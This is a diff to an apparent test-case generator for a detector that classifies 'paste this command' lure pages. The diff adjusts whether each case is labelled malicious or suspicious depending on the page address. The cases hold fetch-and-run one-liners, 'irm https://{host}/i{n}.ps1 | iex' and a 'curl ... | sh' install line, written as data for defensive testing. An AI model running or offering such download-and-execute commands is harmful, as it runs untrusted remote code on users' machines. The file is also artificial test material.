@@ -126,8 +126,12 @@ def page_disguise_cases() -> list[dict[str, str]]:
         ]  # fmt: skip
     for n, page in enumerate(STRANGER_PAGES, start=1):
         host = LURE_HOSTS[n % len(LURE_HOSTS)]
+        # a page whose address is about something else (pottery classes, parking permits) is
+        # itself the trait (PG-PAGE-OFF-TOPIC); a forum thread or a page naming a Linux word
+        # could be a developer's: a warning
+        expect = "suspicious" if "forum." in page or "alpine" in page else "malicious"
         out.append(case(f"rt-disguise-plain-{n}", f"irm https://{host}/i{n}.ps1 | iex",
-                        "suspicious", "T1204.004", "windows", page, "terminal"))  # fmt: skip
+                        expect, "T1204.004", "windows", page, "terminal"))  # fmt: skip
     # a vendor whose product name joins a borrowed name still vouches for its own script
     out += [
         case("rt-disguise-own-ok-1", "curl -fsSL https://discord-botkit.dev/install.sh | sh",
